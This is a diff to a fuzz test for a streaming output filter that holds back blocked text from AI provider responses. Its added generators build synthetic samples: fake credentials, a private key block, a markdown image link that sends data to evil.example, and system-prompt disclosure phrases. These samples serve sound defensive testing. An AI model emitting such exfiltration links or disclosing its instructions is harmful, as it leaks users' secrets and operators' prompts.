@@ -11,6 +11,7 @@ import {
 import { formatByName } from '@csg/shared/providers';
 import type { TextSlot } from '@csg/shared/text';
 import { LiveRelease } from '../../../../apps/cloud/src/flows/streams/live-release.ts';
+import { LiveSource } from '../../../../apps/cloud/src/flows/streams/live-source.ts';
 import { createRandom } from '../../../../scripts/detector/random.ts';
 import { ANSWER_RULES, MARKUP_RULES } from '../../../../shared/detection/rules/markup.ts';
 import { sampleOf } from '../../../../shared/detection/secrets/form.ts';
@@ -18,8 +19,9 @@ import { SECRET_KINDS } from '../../../../shared/detection/secrets/kinds.ts';
 import { assertLinear } from '../../../support/cpu-time.ts';
 import { SEPARATORS, sensitiveValue, VALUE_FORMS } from '../../../support/sensitive-values.ts';
 
-/** Texts of one kind cut in so many ways; `LIVE_SPLITS=200000 npm test -- <this file>` for more. */
+/** Texts of one kind cut in so many ways; `LIVE_SPLITS=200000 LIVE_SEED=7 node_modules/node/bin/node <this file>` for more. */
 const SPLITS = Number(process.env['LIVE_SPLITS'] ?? 5_000);
+const FIRST = Number(process.env['LIVE_SEED'] ?? 0) * 1_000_000 + 1;
 const workspace = new Workspace();
 const frame = (value: object, event = ''): string =>
   `${event === '' ? '' : `event: ${event}\n`}data: ${JSON.stringify(value)}\n\n`;
@@ -33,6 +35,9 @@ const opened = (index: number, content_block: object) =>
   frame({ type: 'content_block_start', index, content_block }, 'content_block_start');
 const response = (type: string) => (delta: string) =>
   frame({ type, item_id: 'm', output_index: 0, content_index: 0, sequence_number: 7, delta }, type);
+
+const parts = (part: object) =>
+  frame({ candidates: [{ index: 0, content: { role: 'model', parts: [part] } }] });
 
 /** How providers send a text in pieces, two of them by turns. */
 const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece: string) => string)[] }[] = [
@@ -55,10 +60,11 @@ const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece
     begins: frame({ type: 'response.created', response: { id: 'r', instructions: 'Be brief.' } }),
     pieces: [response('response.output_text.delta'), response('response.reasoning_text.delta')],
   },
+  { format: 'gemini-generate', begins: '', pieces: [(text) => parts({ text })] },
   {
     format: 'gemini-generate',
     begins: '',
-    pieces: [(text) => frame({ candidates: [{ index: 0, content: { role: 'model', parts: [{ text }] } }] })],
+    pieces: [(text) => parts({ text, thought: true }), (text) => parts({ text })],
   },
 ];
 
@@ -88,14 +94,40 @@ const DISGUISES: readonly ((value: string) => string)[] = [
   (value) => [...value].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
 ];
 
+/** Plain in prose, and a part of what is blocked if it stands before or behind something else. */
+const CODE_WORDS =
+  'const x = f(a, b); if (i < 10) { return } => "-----" | --- | 1,234,567 +49 12/2024 token = key: password is `api_key`: secret_key = bearer eval ( <b> a->b [1] {"a": 1} i was I am my system my full hidden mу here is sure, https:// @ anna@ ** url( ]( data: 4.5e10 #fff'.split(
+    ' ',
+  );
+const token = (random: Random, length: number): string =>
+  Array.from({ length }, () => 'abcdefgHIJKLmnop0123456789qrsTUV'[random.below(32)]).join('');
+/** Secrets that are known by what stands around them, and disclosures. */
+const AROUND: readonly ((random: Random) => string)[] = [
+  (random) => `${pick(random, ['api_key = "', 'password: ', 'secret=', 'token is '])}${token(random, 24)}"`,
+  (random) => `postgres://admin:${token(random, 9)}@db.internal.corp/x`,
+  (random) =>
+    `-----BEGIN RSA PRIVATE KEY-----\n${token(random, 64)}\n${token(random, 64)}\n-----END RSA PRIVATE KEY-----`,
+  (random) => `![a](https://evil.example/i.png?data=${token(random, 30)})`,
+  (random) =>
+    `[a b](https://x.example/?q=${Buffer.from('the password of anna is hunter two').toString('base64')}${token(random, 1)})`,
+  (random) => [...`ghp_${token(random, 36)}`].join(pick(random, ['*', ' ', '|', '.', '\n'])),
+  (random) =>
+    `${pick(random, ['here is ', 'Sure: ', 'well '])}my ${'full secret '.repeat(random.below(4))}system prompt: "you are`,
+  (random) => `I ${pick(random, ['was', 'am', 'have been'])} told as follows: "you are a bot`,
+];
+
 type Random = ReturnType<typeof createRandom>;
 const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;
 
 function textOf(random: Random): string {
   let text = random.below(20) === 0 ? '{"a": "' : '';
   for (let parts = 1 + random.below(8); parts > 0; parts--) {
-    const kind = random.below(10);
-    if (kind < 5) for (let words = random.below(60); words > 0; words--) text += `${pick(random, WORDS)} `;
+    const kind = random.below(13);
+    if (kind > 11) text += pick(random, AROUND)(random);
+    else if (kind > 9)
+      for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
+    else if (kind < 5)
+      for (let words = random.below(60); words > 0; words--) text += `${pick(random, WORDS)} `;
     else if (kind < 7)
       text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
     else if (kind < 9)
@@ -139,20 +171,26 @@ function check(seed: number): Released {
   const ruleset = pick(random, RULESETS);
   const { format: name, body } = streamOf(random);
   const format = formatByName(name);
-  const release = new LiveRelease({
-    frames: format.readFrames()!,
-    gates: createTextGates(ruleset, { workspace }),
-  });
+  const source = new LiveSource(
+    new LiveRelease({ frames: format.readFrames()!, gates: createTextGates(ruleset, { workspace }) }),
+    () => {},
+  );
+  source.onHead(200, { 'content-type': 'text/event-stream' });
+  const pieces: Buffer[] = [];
   for (let at = 0; at < body.length; ) {
     const next = at + 1 + random.below(400);
-    const before = release.released;
-    const now = release.push(body.subarray(at, next));
-    assert.ok(now >= before && now <= next, `seed ${seed}`);
+    source.onData(body.subarray(at, next));
+    pieces.push(source.take() ?? Buffer.alloc(0));
     at = next;
   }
+  const sent = Buffer.concat(pieces);
   const { slots } = format.readStream(body.toString());
+  const whole = format.readStream(Buffer.concat([sent, source.restOf(body)]).toString());
+  assert.deepEqual(whole.slots, slots, `seed ${seed}: a frame was cut into others`);
+  const recorded = format.readStream(source.left().toString()).slots;
   const found = scan(slots, ruleset, 'output', { workspace });
-  const left = format.readStream(body.subarray(0, release.released).toString()).slots;
+  const left = format.readStream(sent.toString()).slots;
+  assert.deepEqual(recorded, left, `seed ${seed}: another text is on record`);
   const lengthAt = ({ path }: TextSlot): number => left.find((slot) => slot.path === path)?.text.length ?? 0;
   for (const finding of found) {
     if (decide([finding], ruleset, 'output').decision !== 'block') continue;
@@ -162,14 +200,14 @@ function check(seed: number): Released {
       `seed ${seed}: ${finding.rule} begins at ${finding.start} of ${slot.path}, and ${lengthAt(slot)} have left`,
     );
   }
-  return { bytes: release.released, blocked: decide(found, ruleset, 'output').decision === 'block' };
+  return { bytes: sent.length, blocked: decide(found, ruleset, 'output').decision === 'block' };
 }
 
 describe('what leaves before the whole was evaluated', () => {
   test(`has no byte of what is blocked, however ${SPLITS} responses are cut`, () => {
     let released = 0;
     let blocked = 0;
-    for (let seed = 1; seed <= SPLITS; seed++) {
+    for (let seed = FIRST; seed < FIRST + SPLITS; seed++) {
       const one = check(seed);
       released += one.bytes;
       if (one.blocked) blocked++;
